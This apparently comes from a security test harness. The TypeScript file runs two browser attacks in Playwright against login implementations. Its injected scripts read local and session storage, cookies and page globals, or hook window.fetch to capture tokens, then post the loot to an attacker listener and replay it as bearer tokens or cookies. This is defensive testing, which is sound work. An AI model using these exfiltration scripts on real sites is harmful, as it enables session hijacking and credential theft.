/** A script of somebody else's on the page of a user who is logged in: what it finds there, it sends to the attacker. */

import { readFile } from 'node:fs/promises';
import { basename } from 'node:path';
import type { Page } from 'playwright-core';
import { compiledFile } from '../../environment/programs.ts';
import type { AttackResult, CataloguedAttack, Scene } from '../attack.ts';
import { open } from '../crafted.ts';
import { type Listener, listen } from '../listener.ts';
import { loginFields } from '../log-in.ts';
import { NothingProven } from '../nothing-proven.ts';
import { bearer, isAccepted, jsonMembers, profileRequest, shown, told, toldWho } from '../requests.ts';
import { withoutSessions } from '../traits.ts';
import { withoutBrowser, withPage } from './chromium.ts';

const storage: CataloguedAttack = {
  group: 'browser',
  name: 'script-reads-storage',
  title: 'foreign script reads what is kept',
  deed: 'runs a script on the page and sends home all that is stored there',
  question: 'Does the page keep a credential where every script on it can read it?',
  source: 'OWASP ASVS 5.0.0 14.3.3, 3.3.4; OWASP HTML5 cheat sheet (local storage); CWE-922',
  inapplicable: withoutSessions,
  hindrance: withoutBrowser,
  run: (scene) => stealWith(scene, readingScript, 'after the login'),
  broken: { algorithm: 'HS256', mistake: () => ({ page: storingPage }) },
};

/** What a script that came later finds lying about. */
const readingScript = `
  const stores = [localStorage, sessionStorage].flatMap((store) => Object.values({ ...store }));
  const globals = Object.keys(window).map((name) => { try { return window[name]; } catch { return null; } });
  const databases = indexedDB.databases === undefined ? [] : await indexedDB.databases();
  const loot = [...stores, document.cookie, document.documentElement.outerHTML, ...globals, ...databases.map(({ name }) => name)];
  send(loot.filter((found) => typeof found === 'string' && found !== ''));`;

const listening: CataloguedAttack = {
  group: 'browser',
  name: 'script-listens',
  title: 'foreign script listens',
  deed: 'runs a script before the page does and hears all that it sends and gets',
  question: 'Can a script that was there first hear the credential on its way?',
  source: 'RFC 9700 4.1; OWASP ASVS 5.0.0 3.3.4; OWASP XSS cheat sheet; CWE-79',
  inapplicable: withoutSessions,
  hindrance: withoutBrowser,
  async run(scene) {
    const result = await stealWith(scene, listeningScript, 'before the login');
    const isDesign = result.outcome.kind === 'open' && scene.contestant.traits.transport === 'bearer';
    if (!isDesign) return result;
    return {
      ...result,
      outcome: {
        kind: 'open-by-design',
        window: null,
        reason: 'a page that sends its token itself shows it to every script that was there before',
      },
    };
  },
  broken: {
    algorithm: 'HS256',
    transport: 'cookie',
    // The page has no token, and its cookie can be read all the same.
    mistake: () => ({
      cookie: (name, path, value, maxAgeSeconds) =>
        `${name}=${value}; Path=${path}; Max-Age=${maxAgeSeconds}; Secure; SameSite=Strict`,
    }),
  },
};

/** Stands between the page and everything it calls. */
const listeningScript = `
  const heard = [];
  const { fetch } = window;
  window.fetch = async (input, init) => {
    const request = new Request(input, init);
    heard.push(...request.headers.values());
    const answer = await fetch(input, init);
    answer.clone().text().then((text) => heard.push(text), () => undefined);
    return answer;
  };
  window.addEventListener('pageused', () => setTimeout(() => send([...heard, document.cookie].filter((found) => found !== '')), 50));`;

/** Keeps its token as most tutorials do. */
function storingPage(mount: string): string {
  return pageWith(`
    const answer = await fetch('/${mount}/auth/login', {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(window.name === '' ? {} : JSON.parse(window.name)),
    });
    localStorage.setItem('token', (await answer.json()).access_token);
    const profile = await fetch('/${mount}/profile', { headers: { authorization: 'Bearer ' + localStorage.getItem('token') } });
    document.title = (await profile.json()).sub;`);
}

/** Keeps it as our own client does: in memory, and its refresh token in a cookie that no script can read. */
function clientPage({ contestant }: Scene): string {
  const mount = contestant.protectedPath.replace(/\/profile$/, '').slice(1);
  return pageWith(`
    const { createClient } = await import('${clientFolder}client.js');
    const { username, password } = JSON.parse(window.name);
    const client = createClient({ baseUrl: location.origin, strategy: '${mount}' });
    await client.login(username, password);
    document.title = (await client.profile()).sub;`);
}

function pageWith(script: string): string {
  return `<!doctype html><title>page</title><script type="module">${script}
    window.dispatchEvent(new Event('pageused'));</script>`;
}

const pagePath = '/page-under-attack';
const clientFolder = '/client-under-attack/';
const lootPath = '/loot';

async function stealWith(
  scene: Scene,
  script: string,
  when: 'before the login' | 'after the login',
): Promise<AttackResult> {
  const attacker = await listen((path) =>
    path === lootPath ? { body: '{}' } : { body: foreignScript(script), type: 'text/javascript' },
  );
  try {
    const user = scene.nextUser();
    await withPage((page) => visit(scene, { page, user, attacker, when }));
    return await useLoot(scene, user, attacker);
  } finally {
    await attacker.close();
  }
}

/** Comes from the attacker's origin, and runs with the rights of the page. */
function foreignScript(script: string): string {
  return `(async () => {
    const home = new URL(document.currentScript.src).origin;
    const own = window.fetch.bind(window);
    const send = (loot) => own(home + '${lootPath}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
    ${script}
  })();`;
}

interface Visit {
  readonly page: Page;
  readonly user: string;
  readonly attacker: Listener;
  readonly when: 'before the login' | 'after the login';
}

/** The user opens the page, logs in and uses it, with the foreign script on it. Resolves when that has sent its loot. */
async function visit(scene: Scene, { page, user, attacker, when }: Visit): Promise<void> {
  const origin = scene.contestant.nodes[0] ?? '';
  const own = await scene.ask({
    method: 'GET',
    path: scene.contestant.protectedPath.replace(/profile$/, 'page'),
    headers: {},
  });
  const html = own.status === 200 ? own.body : clientPage(scene);
  const tag = `<script src="${attacker.baseUrl}/foreign.js"></script>`;
  const first = when === 'before the login' ? html.replace('<script', `${tag}<script`) : html;
  await page.route(`${origin}${pagePath}`, (route) => route.fulfill({ contentType: 'text/html', body: first }));
  await page.route(`${origin}${clientFolder}*`, async (route) => {
    const file = compiledFile(`src/client/${basename(new URL(route.request().url()).pathname)}`);
    await route.fulfill({ contentType: 'text/javascript', body: await readFile(file) });
  });
  await page.addInitScript(`window.name = ${JSON.stringify(JSON.stringify(loginFields(scene, user)))}`);
  await page.goto(`${origin}${pagePath}`);
  await page.waitForFunction(`document.title !== 'page'`, undefined, { timeout: 15_000 }).catch(() => {
    throw new NothingProven('the page did not get as far as showing who is logged in');
  });
  const title = await page.title();
  if (title !== user) throw new NothingProven('the page took its user for another');
  const sent = page.waitForRequest((request) => request.url() === `${attacker.baseUrl}${lootPath}`, {
    timeout: 15_000,
  });
  const start =
    when === 'after the login'
      ? page.addScriptTag({ url: `${attacker.baseUrl}/foreign.js` })
      : page.evaluate(`window.dispatchEvent(new Event('pageused'))`);
  const [request] = await Promise.all([sent, start]);
  await request.response();
}

/** Whatever was sent home is tried, as a bearer token and as a cookie. */
async function useLoot(scene: Scene, user: string, attacker: Listener): Promise<AttackResult> {
  const { contestant } = scene;
  const loot = attacker
    .heard()
    .filter(({ path }) => path === lootPath)
    .flatMap(({ body }): string[] => JSON.parse(body));
  const found = new Set(
    loot
      .flatMap((text) => [text, ...tokensIn(text), ...text.split('; ')])
      .filter((text) => /^[\x20-\x7e]{16,6000}$/.test(text)),
  );
  for (const text of found) {
    for (const headers of [bearer(text.replace(/^Bearer /, '')), { cookie: text }]) {
      const answer = await scene.ask(profileRequest(contestant, headers));
      if (isAccepted(answer) && jsonMembers(answer.body).sub === user) {
        const evidence = `${shown('GET', contestant.protectedPath, contestant)} ${told(answer)}${toldWho(answer)}, by what the foreign script had sent to the attacker`;
        return { outcome: open, evidence };
      }
    }
  }
  const evidence = `a real browser showed ${user.replace(/\d+/, '…')} as logged in; of ${found.size} texts that the foreign script sent home none lets in`;
  return { outcome: { kind: 'blocked' }, evidence };
}

function tokensIn(text: string): string[] {
  return text.match(/[\w-]{16,}(?:\.[\w-]+){0,2}/g) ?? [];
}

export const foreignScripts: readonly CataloguedAttack[] = [storage, listening];
